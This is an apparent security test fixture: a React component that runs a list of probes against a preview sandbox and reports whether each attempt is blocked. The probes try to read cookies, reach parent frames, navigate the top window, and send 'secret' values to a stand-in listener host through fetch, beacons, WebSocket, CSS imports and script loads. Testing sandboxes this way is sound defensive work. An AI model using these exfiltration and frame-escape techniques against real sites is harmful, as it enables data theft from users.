// Probes of the preview sandbox; test_security_browser.py fills in the listener, app and preview URLs.
import { useEffect, useState } from "react";

const L = "%(listener)s";
const APP = "%(app)s";
const PREVIEW = "%(preview)s";
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

const syncProbe = (fn) => () => {
  try { const out = fn(); return out === "blocked" ? "blocked" : "ALLOWED: " + String(out).slice(0, 80); }
  catch (e) { return "blocked: " + e.name; }
};
const asyncProbe = (fn) => async () => {
  try { const out = await fn(); return out === "blocked" ? "blocked" : "ALLOWED: " + String(out).slice(0, 80); }
  catch (e) { return "blocked: " + (e && e.name); }
};
// CSP violations seen so far: proof that a request was refused before it left.
const violations = [];
document.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
// `run` makes a request that CSP must refuse: a new violation of `directive` proves it was refused
// before it left (sendBeacon returns true and an <iframe> fires "load" either way).
const refused = async (directive, run) => {
  const before = violations.filter((v) => v.startsWith(directive + " ")).length;
  try { run(); } catch (e) { return "blocked: " + e.name; }
  for (let i = 0; i < 20; i++) {
    if (violations.filter((v) => v.startsWith(directive + " ")).length > before) return "blocked: " + directive;
    await sleep(50);
  }
  return "ALLOWED: no violation reported";
};
// Elements that report load/error: "load" means the request went through.
const loads = (make) => () => new Promise((resolve) => {
  const el = make();
  el.onload = () => resolve("ALLOWED: loaded");
  el.onerror = () => resolve("blocked: error event");
  setTimeout(() => resolve("blocked: nothing loaded"), 1500);
});

const PROBE_LIST = {
  "read cookie": syncProbe(() => document.cookie),
  "write cookie": syncProbe(() => { document.cookie = "stolen=1"; return document.cookie; }),
  "parent DOM": syncProbe(() => parent.document.title),
  "parent storage": syncProbe(() => parent.localStorage.getItem("x")),
  "top location read": syncProbe(() => top.location.href),
  "top navigation": syncProbe(() => { top.location.href = APP + "/leak-top"; return "blocked"; }),
  "top replace": syncProbe(() => { top.location.replace(APP + "/leak-top2"); return "blocked"; }),
  "window.open": syncProbe(() => window.open(L + "/popup") === null ? "blocked" : "window"),
  "target _blank link": syncProbe(() => {
    const a = document.createElement("a"); a.href = L + "/blank"; a.target = "_blank"; document.body.append(a); a.click(); return "blocked";
  }),
  "fetch listener": asyncProbe(() => fetch(L + "/fetch?secret=1").then((r) => r.status)),
  "fetch app": asyncProbe(() => fetch(APP + "/healthz").then((r) => r.status)),
  "fetch preview origin": asyncProbe(() => fetch(PREVIEW + "/healthz").then((r) => r.status)),
  "fetch no-cors": asyncProbe(() => fetch(L + "/nocors", { mode: "no-cors" }).then((r) => r.type)),
  "XMLHttpRequest": () => new Promise((resolve) => {
    try {
      const x = new XMLHttpRequest(); x.open("POST", L + "/xhr");
      x.onload = () => resolve("ALLOWED: " + x.status); x.onerror = () => resolve("blocked: error event"); x.send("secret");
    } catch (e) { resolve("blocked: " + e.name); }
  }),
  "WebSocket": () => new Promise((resolve) => {
    try {
      const ws = new WebSocket(L.replace("http", "ws") + "/ws");
      ws.onopen = () => resolve("ALLOWED: open"); ws.onerror = () => resolve("blocked: error event");
    } catch (e) { resolve("blocked: " + e.name); }
  }),
  "EventSource": () => new Promise((resolve) => {
    try {
      const es = new EventSource(L + "/sse");
      es.onopen = () => resolve("ALLOWED: open"); es.onerror = () => { es.close(); resolve("blocked: error event"); };
    } catch (e) { resolve("blocked: " + e.name); }
  }),
  "sendBeacon": () => refused("connect-src", () => navigator.sendBeacon(L + "/beacon", "secret")),
  "image beacon": loads(() => { const i = new Image(); i.src = L + "/img.png?secret=1"; return i; }),
  "script beacon": loads(() => { const s = document.createElement("script"); s.src = L + "/x.js"; document.head.append(s); return s; }),
  "stylesheet": loads(() => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = L + "/s.css"; document.head.append(l); return l; }),
  "prefetch": syncProbe(() => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = L + "/prefetch"; document.head.append(l); return "blocked"; }),
  "CSS background": syncProbe(() => { const d = document.createElement("div"); d.style.cssText = `width:10px;height:10px;background:url(${L}/bg.png)`; document.body.append(d); return "blocked"; }),
  "CSS @import": syncProbe(() => { const s = document.createElement("style"); s.textContent = `@import url("${L}/import.css");`; document.head.append(s); return "blocked"; }),
  "a ping": syncProbe(() => { const a = document.createElement("a"); a.href = "#pinged"; a.ping = L + "/ping"; document.body.append(a); a.click(); return "blocked"; }),
  "dynamic import": asyncProbe(() => import(/* remote */ L + "/m.js").then(() => "imported")),
  "import app module": asyncProbe(() => import(APP + "/static/dist/app.js").then(() => "imported")),
  // A form post navigates this frame: it is one of test_security_browser.py's SELF_NAVIGATIONS,
  // because the app page's frame-src refuses it by replacing this document with an error page.
  "nested frame": () => refused("frame-src", () => {
    const f = document.createElement("iframe"); f.src = L + "/frame"; document.body.append(f);
  }),
  "worker": syncProbe(() => { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" }))); return "blocked"; }),
  "service worker": asyncProbe(() => navigator.serviceWorker ? navigator.serviceWorker.register("/sw.js").then(() => "registered") : "blocked"),
  "indexedDB": syncProbe(() => { indexedDB.open("x"); return "opened"; }),
  "WebRTC": syncProbe(() => typeof RTCPeerConnection === "undefined" ? "blocked" : new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:3478" }] })),
  "alert does not block": syncProbe(() => { const t = performance.now(); alert("hi"); confirm("sure?"); prompt("name?", "x"); return performance.now() - t < 500 ? "blocked" : "slow"; }),
};

export default function Probes() {
  const [results, setResults] = useState(null);
  useEffect(() => {
    (async () => {
      localStorage.setItem("canvas-probe", "frame-only");
      const out = {};
      for (const [name, probe] of Object.entries(PROBE_LIST)) out[name] = await probe();
      await sleep(300);
      setResults(out);
    })();
  }, []);
  return <pre id="results">{results ? JSON.stringify(results) : "running"}</pre>;
}
